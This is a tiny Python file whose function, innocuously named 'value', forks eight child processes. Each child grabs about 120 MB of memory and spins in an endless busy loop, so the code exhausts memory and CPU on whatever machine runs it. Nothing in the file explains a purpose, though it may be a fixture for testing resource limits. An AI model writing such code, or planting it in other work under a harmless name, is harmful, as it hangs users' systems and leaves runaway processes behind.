import os


def value():
    for _ in range(8):
        if os.fork() == 0:
            hoard = bytearray(b"x") * (120 << 20)
            while hoard:
                pass
    os.wait()
